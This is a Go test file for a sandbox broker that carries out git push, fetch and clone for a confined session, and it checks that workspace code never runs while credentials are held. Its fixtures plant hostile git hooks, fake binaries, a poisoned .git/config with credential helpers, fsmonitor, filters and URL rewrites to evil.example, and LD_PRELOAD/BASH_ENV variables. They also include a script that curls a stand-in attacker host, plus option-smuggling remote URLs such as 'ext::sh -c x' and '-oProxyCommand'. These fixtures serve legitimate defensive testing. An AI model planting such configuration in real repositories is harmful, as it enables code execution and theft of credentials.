package broker_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tidemark/tidemark/internal/box"
	"github.com/tidemark/tidemark/internal/box/broker"
	"github.com/tidemark/tidemark/internal/box/relay"
	"github.com/tidemark/tidemark/internal/test/boxtest"
	"github.com/tidemark/tidemark/internal/warrant/outgoing"
)

func TestMain(m *testing.M) {
	box.Become()
	os.Exit(m.Run())
}

func TestAnOrdinaryUserHasTheSameBroker(t *testing.T) { boxtest.AsOrdinaryUser(t) }

const host = "git.acme.example"

// office is a world with a repository elsewhere, at a server that notes every request.
type office struct {
	*boxtest.World
	t       *testing.T
	url     string // of the repository there
	ca      string // the file that believes the server
	bare    string // the repository there
	port    string
	session *box.Box
	want    box.Want
	opts    relay.Options
	mu      sync.Mutex
	seen    []string // requests
	names   []string // names that were asked outside
	away    bool     // the server sends everybody elsewhere
	pins    broker.Pins
}

func newOffice(t *testing.T) *office {
	t.Helper()
	boxtest.Needs(t, "git", "curl")
	o := &office{World: boxtest.New(t), t: t}
	o.bare = filepath.Join(o.Dir, "there", "web.git")
	backend := strings.TrimSpace(o.Must("git --exec-path")) + "/git-http-backend"
	if _, err := os.Stat(backend); err != nil {
		t.Skip("git has no server here")
	}
	there := &cgi.Handler{Path: backend, Env: []string{"GIT_PROJECT_ROOT=" + filepath.Dir(o.bare), "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=d", "HOME=" + o.Home},
		Stderr: io.Discard}
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.mu.Lock()
		o.seen = append(o.seen, r.Method+" "+r.URL.Path)
		away := o.away
		o.mu.Unlock()
		if away {
			http.Redirect(w, r, "https://elsewhere.example"+r.URL.RequestURI(), http.StatusFound)
			return
		}
		there.ServeHTTP(w, r)
	}))
	s.TLS = o.certificate(host)
	s.StartTLS()
	t.Cleanup(func() {
		s.CloseClientConnections()
		s.Close()
	})
	at := s.Listener.Addr().String()
	_, o.port, _ = net.SplitHostPort(at)
	o.url = "https://" + host + ":" + o.port + "/web.git"
	o.opts = relay.Options{
		Resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.names = append(o.names, name)
			return []netip.Addr{netip.MustParseAddr("8.8.8.8")}, nil
		},
		Dial: func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "tcp", at)
		},
	}
	o.Must("git init -q --bare " + o.bare + " && git -C " + o.bare + " config http.receivepack true && git init -q && git add -A && git commit -qm one" +
		" && git push -q " + o.bare + " main && git remote add origin " + o.url + " && git update-ref refs/remotes/origin/main HEAD")
	return o
}

func (o *office) certificate(names ...string) *tls.Config {
	from := time.Now().Add(-time.Hour)
	issue := func(about *x509.Certificate, by *x509.Certificate, signer *ecdsa.PrivateKey) ([]byte, *ecdsa.PrivateKey) {
		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			o.t.Fatal(err)
		}
		if signer == nil {
			signer = key
		}
		raw, err := x509.CreateCertificate(rand.Reader, about, by, key.Public(), signer)
		if err != nil {
			o.t.Fatal(err)
		}
		return raw, key
	}
	above := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "who signs"}, NotBefore: from, NotAfter: from.Add(48 * time.Hour), IsCA: true,
		BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
	}
	raw, signer := issue(above, above, nil)
	leaf, key := issue(&x509.Certificate{
		SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "of a test"}, NotBefore: from, NotAfter: from.Add(48 * time.Hour), DNSNames: names,
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}, above, signer)
	ca := filepath.Join(o.Home, "ca.pem")
	o.ca = ca
	o.Put(ca, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: raw})))
	o.Put(filepath.Join(o.Home, ".gitconfig"), "[user]\n\tname = d\n\temail = d@acme.example\n[init]\n\tdefaultBranch = main\n[http]\n\tsslCAInfo = "+ca+"\n")
	return &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{leaf, raw}, PrivateKey: key}}, MinVersion: tls.VersionTLS12}
}

// broker opens the session's box, if it is not open yet, and a broker for it.
func (o *office) broker() *broker.Broker {
	if o.session == nil {
		o.want = o.Want("session")
		o.session = o.Open(o.want)
	}
	return broker.New(broker.Options{
		Want: o.want, State: filepath.Dir(o.want.State), Relay: o.opts, Pins: o.pins, CAFile: o.ca, Sums: "off",
		Inside: func(_ context.Context, c box.Command) (box.Exit, error) {
			j, err := o.session.Start(c)
			if err != nil {
				return box.Exit{Code: box.ExitNoBox}, err
			}
			return j.Wait()
		},
	})
}

// prepare has the broker find out about a line.
func (o *office) prepare(line string) (*broker.Deed, error) {
	o.t.Helper()
	f, ok := outgoing.Plain(line)
	if !ok {
		o.t.Fatalf("%s is no plain form", line)
	}
	return o.broker().Prepare(o.t.Context(), f)
}

// run runs a deed and gives what it printed.
func (o *office) run(d *broker.Deed) (int, string, error) {
	o.t.Helper()
	file, err := os.CreateTemp(o.Dir, "out-*")
	if err != nil {
		o.t.Fatal(err)
	}
	defer file.Close()
	null, err := os.Open(os.DevNull)
	if err != nil {
		o.t.Fatal(err)
	}
	defer null.Close()
	exit, runErr := d.Run(o.t.Context(), [3]*os.File{null, file, file})
	text, err := os.ReadFile(file.Name())
	if err != nil {
		o.t.Fatal(err)
	}
	return exit.Code, string(text), runErr
}

// do prepares and runs a line that must go well.
func (o *office) do(line string) broker.Question {
	o.t.Helper()
	d, err := o.prepare(line)
	if err != nil {
		o.t.Fatalf("%s: %v", line, err)
	}
	if code, out, err := o.run(d); code != 0 || err != nil {
		o.t.Fatalf("%s: %d %v\n%s", line, code, err, out)
	}
	return d.Question
}

func (o *office) there(name string) string {
	out, _ := exec.Command("git", "-c", "safe.directory=*", "--git-dir="+o.bare, "rev-parse", "--verify", "-q", name).Output()
	return strings.TrimSpace(string(out))
}

func (o *office) here(name string) string {
	return strings.TrimSpace(o.Must("git rev-parse --verify -q " + name + " || true"))
}

// only fails if anybody but git came to the server, or any other name was asked for.
func (o *office) only() {
	o.t.Helper()
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, s := range o.seen {
		if !strings.Contains(s, "/web.git/") {
			o.t.Errorf("somebody with the capability asked for %s", s)
		}
	}
	for _, n := range o.names {
		if n != host {
			o.t.Errorf("the name %s was asked outside", n)
		}
	}
}

// A push carries what its question says, and the workspace knows afterwards.
func TestPush(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc fix-12 && echo b > b.txt && git add b.txt && git commit -qm 'add b' && echo c >> a.txt && git commit -qam 'change a'")
	q := o.do("git push -u origin fix-12")
	if q.Host != host || q.Remote != "origin" || q.Place != "web.git" || len(q.Commits) != 2 || q.Commits[0].Subject != "change a" || q.Commits[0].Author != "d <d@acme.example>" ||
		len(q.Refs) != 1 || q.Refs[0].Name != "refs/heads/fix-12" || q.Refs[0].To != o.here("HEAD") || q.Force {
		t.Errorf("%+v", q)
	}
	slices.SortFunc(q.Files, func(a, b broker.File) int { return strings.Compare(a.Path, b.Path) })
	if len(q.Files) != 2 || q.Files[0] != (broker.File{Path: "a.txt", Added: 1}) || q.Files[1] != (broker.File{Path: "b.txt", Added: 1}) {
		t.Errorf("%+v", q.Files)
	}
	if head := o.here("HEAD"); o.there("fix-12") != head || o.here("refs/remotes/origin/fix-12") != head || o.here("@{upstream}") != head {
		t.Errorf("there %s, tracked %s", o.there("fix-12"), o.here("refs/remotes/origin/fix-12"))
	}
	o.Must("git commit -q --amend -m 'change a again'")
	d, err := o.prepare("git push")
	if err != nil {
		t.Fatal(err)
	}
	if code, out, err := o.run(d); code == 0 || err != nil {
		t.Errorf("what must be forced was not: %v\n%s", err, out)
	}
	if q := o.do("git push --force-with-lease origin fix-12"); !q.Force || o.there("fix-12") != o.here("HEAD") {
		t.Errorf("%+v", q)
	}
	o.do("git push origin --delete fix-12")
	if o.there("fix-12") != "" || o.here("refs/remotes/origin/fix-12") != "" {
		t.Error("it is still there")
	}
	o.only()
}

// What a merge brings itself, and none of its parents has, is named as well.
func TestAMergeHidesNothing(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc side && echo s > s.txt && git add s.txt && git commit -qm s && git switch -q main && echo m > m.txt && git add m.txt && git commit -qm m" +
		" && git merge -q --no-commit side && echo evil > hidden.yml && git add hidden.yml && git commit -qm merge")
	d, err := o.prepare("git push origin main")
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(d.Question.Files, func(f broker.File) bool { return f.Path == "hidden.yml" && f.Added > 0 }) || len(d.Question.Commits) != 3 {
		t.Errorf("%+v", d.Question)
	}
}

// evil writes a program that shows that it ran: in the workspace, and with the capability, at the server. It names programs by their
// paths: it is called like some of them itself, and must not start itself again and again.
func (o *office) evil(name string) string {
	path := filepath.Join(o.Work, name)
	o.Put(path, "#!/bin/sh\n/usr/bin/touch "+o.Work+"/ran-"+filepath.Base(name)+" 2>/dev/null\n/usr/bin/curl -sk --max-time 5 https://"+host+":"+o.port+"/evil/"+filepath.Base(name)+
		" >/dev/null 2>&1\n/usr/bin/curl -sk --max-time 5 https://evil.example/ >/dev/null 2>&1\necho EVIL\n")
	return path
}

// hostile makes the workspace's repository one that runs what it can wherever it can.
func (o *office) hostile() {
	o.t.Helper()
	x := o.evil("x.sh")
	for _, hook := range []string{"pre-push", "reference-transaction", "post-checkout", "post-merge", "fsmonitor-watchman", "pre-auto-gc", "post-index-change"} {
		o.Put(filepath.Join(o.Work, ".git/hooks", hook), "#!/bin/sh\nexec "+x+"\n")
	}
	for _, name := range []string{"git", "git-remote-https", "curl", "ssh", "gpg"} {
		o.evil(filepath.Join("bin", name))
	}
	o.Put(filepath.Join(o.Work, ".git/more"), "[core]\n\tsshCommand = "+x+"\n\tfsmonitor = "+x+"\n")
	o.Put(filepath.Join(o.Work, ".git/info/attributes"), "* filter=evil diff=evil merge=evil\n")
	o.Put(filepath.Join(o.Work, ".gitattributes"), "* filter=evil diff=evil merge=evil\n")
	o.Put(filepath.Join(o.Work, ".gitmodules"), "[submodule \"s\"]\n\tpath = s\n\turl = https://evil.example/s.git\n")
	f, err := os.OpenFile(filepath.Join(o.Work, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		o.t.Fatal(err)
	}
	defer f.Close()
	_, err = io.WriteString(f, strings.ReplaceAll(`[core]
	sshCommand = X
	fsmonitor = X
	askPass = X
	pager = X
	editor = X
	gitProxy = X
	hooksPath = .git/hooks
	alternateRefsCommand = X
[credential]
	helper = "!X"
[credential "https://git.acme.example"]
	helper = "!X"
[include]
	path = more
[url "https://evil.example/"]
	insteadOf = https://git.acme.example
	pushInsteadOf = https://git.acme.example
[remote "origin"]
	receivepack = X
	uploadpack = X
	proxy = http://evil.example:80
	push = +refs/heads/*:refs/heads/*
	mirror = true
[alias]
	push = !X
	ls-remote = !X
	update-ref = !X
[filter "evil"]
	clean = X
	smudge = X
	process = X
	required = true
[diff]
	external = X
[diff "evil"]
	textconv = X
	command = X
[merge "evil"]
	driver = X
[gpg]
	program = X
[push]
	gpgSign = true
	recurseSubmodules = on-demand
	default = matching
	followTags = true
[log]
	showSignature = true
[http]
	proxy = http://evil.example:80
	sslVerify = false
	followRedirects = true
	extraHeader = X-Evil: 1
[protocol]
	allow = always
[protocol "ext"]
	allow = always
[submodule]
	recurse = true
[gc]
	auto = 1
[uploadpack]
	packObjectsHook = X
[transfer]
	credentialsInUrl = allow
[sequence]
	editor = X
`, "X", x))
	if err != nil {
		o.t.Fatal(err)
	}
	o.Env = append(o.Env, "GIT_SSH_COMMAND="+x, "GIT_ASKPASS="+x, "GIT_EXEC_PATH="+o.Work+"/bin", "GIT_PROXY_COMMAND="+x, "GIT_EXTERNAL_DIFF="+x, "LD_PRELOAD="+o.Work+"/x.so",
		"GIT_CONFIG_PARAMETERS='core.fsmonitor="+x+"'", "BASH_ENV="+x, "ENV="+x)
	for i, e := range o.Env {
		if strings.HasPrefix(e, "PATH=") {
			o.Env[i] = "PATH=" + o.Work + "/bin:" + strings.TrimPrefix(e, "PATH=")
		}
	}
}

// BOX-02: Nothing of a hostile workspace runs while there is the capability: it could use it.
func TestNoCodeOfTheWorkspaceRunsInAPush(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc fix && echo b > b.txt && git add b.txt && git commit -qm b")
	head := o.here("HEAD")
	env := o.Env
	o.hostile()
	if out, _ := hostilePlain(o); !strings.Contains(out, "ran-") {
		t.Fatalf("without the broker nothing of it runs either: the test proves nothing\n%s", out)
	}
	o.mu.Lock()
	o.seen = nil
	o.mu.Unlock()
	q := o.do("git push origin fix")
	o.Env = env
	if o.there("fix") != head || len(q.Commits) != 1 || q.Host != host {
		t.Errorf("there %s, want %s: %+v", o.there("fix"), head, q)
	}
	o.only()
}

// hostilePlain pushes without the broker, as far as that comes, and lists what ran.
func hostilePlain(o *office) (string, error) {
	cmd := exec.Command("bash", "-c", "rm -f ran-*; /usr/bin/git status >/dev/null 2>&1; ls; rm -f ran-*")
	cmd.Dir = o.Work
	cmd.Env = []string{"HOME=" + o.Home, "PATH=/usr/bin:/bin", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// A tainted session can say that everything is over there already. Then its question would name nothing, and so nothing is sent.
func TestAPushCarriesOnlyWhatItsQuestionNamed(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc fix && echo SECRET > b.txt && git add b.txt && git commit -qm b && git update-ref refs/remotes/origin/other HEAD")
	d, err := o.prepare("git push origin fix")
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Question.Commits) != 0 {
		t.Fatalf("the forgery does not work: %+v", d.Question)
	}
	if _, out, err := o.run(d); !errors.Is(err, broker.ErrChanged) || o.there("fix") != "" {
		t.Errorf("%v, there %q\n%s", err, o.there("fix"), out)
	}
	o.Must("git update-ref -d refs/remotes/origin/other")
	if d, err = o.prepare("git push origin fix"); err != nil || len(d.Question.Commits) != 1 {
		t.Fatalf("%v %+v", err, d)
	}
	asked := o.here("HEAD")
	o.Must("echo more > c.txt && git add c.txt && git commit -qm more")
	if code, out, err := o.run(d); code != 0 || err != nil || o.there("fix") != asked {
		t.Errorf("%d %v: there %s, asked %s\n%s", code, err, o.there("fix"), asked, out)
	}
	o.only()
}

// A fetch brings what is there, and what the workspace's settings run has no capability.
func TestFetch(t *testing.T) {
	o := newOffice(t)
	o.Must("git clone -q " + o.bare + " ../other && cd ../other && echo n > n.txt && git add n.txt && git commit -qm n && git push -q origin main HEAD:side")
	want := o.there("main")
	o.broker() // the session's git is this machine's, or it could say anything of what it did
	env := o.Env
	o.hostile()
	o.do("git fetch origin main")
	o.Env = env
	if got := o.here("refs/remotes/origin/main"); got != want {
		t.Errorf("main is %s, want %s", got, want)
	}
	if o.here("refs/remotes/origin/side") != "" {
		t.Error("more was brought than was asked for")
	}
	o.only()
}

// A clone brings a repository into the workspace.
func TestClone(t *testing.T) {
	o := newOffice(t)
	// an address without a port is what a form may hold, so the server is at the usual one here
	o.do("git clone https://" + host + "/web.git lib")
	if text, err := os.ReadFile(filepath.Join(o.Work, "lib", "a.txt")); err != nil || string(text) != "a\n" {
		t.Errorf("%q %v", text, err)
	}
	if out := o.Must("git -C lib remote get-url origin"); strings.TrimSpace(out) != "https://"+host+"/web.git" {
		t.Errorf("origin is %s", out)
	}
	o.only()
}

// Who is asked sends nobody elsewhere.
func TestRedirectsAreNotFollowed(t *testing.T) {
	o := newOffice(t)
	o.mu.Lock()
	o.away = true
	o.mu.Unlock()
	o.Must("git switch -qc fix && echo b > b.txt && git add b.txt && git commit -qm b")
	d, err := o.prepare("git push origin fix")
	if err != nil {
		t.Fatal(err)
	}
	if code, out, err := o.run(d); code == 0 && err == nil {
		t.Errorf("it went well: %s", out)
	}
	o.only()
}

// What is not understood is not done.
func TestWhatIsNotDoneHere(t *testing.T) {
	o := newOffice(t)
	o.Must("git tag v1")
	for name, setting := range map[string]string{
		"ext": "ext::sh -c x", "file": "file:///srv/x.git", "path": "/srv/x.git", "http": "http://git.acme.example/x.git", "option": "--upload-pack=x",
		"ssh option": "ssh://-oProxyCommand=x/y", "short option": "git@-oProxyCommand=x:y", "query": "https://git.acme.example/x?y=1", "strange": "https://git.acme.example/x y", "git": "git://a.example/x",
	} {
		o.Must("git config remote.origin.url '" + setting + "'")
		if d, err := o.prepare("git push origin main"); !errors.Is(err, broker.ErrNotHere) {
			t.Errorf("%s: %v %+v", name, err, d)
		}
	}
	o.Must("git config remote.origin.url " + o.url)
	for _, line := range []string{
		"git push --tags origin main", "git push origin v1", "git push origin main:refs/tags/x", "git push other main", "git pull", "git fetch origin main:x", "git ls-remote origin",
		"git fetch --depth 1 origin", "git push origin nothing", "npm view left-pad", "go install a.example/b", "gh pr create -f", "ssh a.example id", "git fetch https://git.acme.example/x.git",
	} {
		if d, err := o.prepare(line); !errors.Is(err, broker.ErrNotHere) {
			t.Errorf("%s: %v %+v", line, err, d)
		}
	}
	o.Must("git config --add remote.origin.url https://evil.example/x.git")
	if _, err := o.prepare("git push origin main"); !errors.Is(err, broker.ErrNotHere) {
		t.Errorf("two addresses: %v", err)
	}
	if o.mu.Lock(); len(o.seen)+len(o.names) > 0 {
		t.Errorf("outside: %v %v", o.seen, o.names)
	}
	o.mu.Unlock()
}
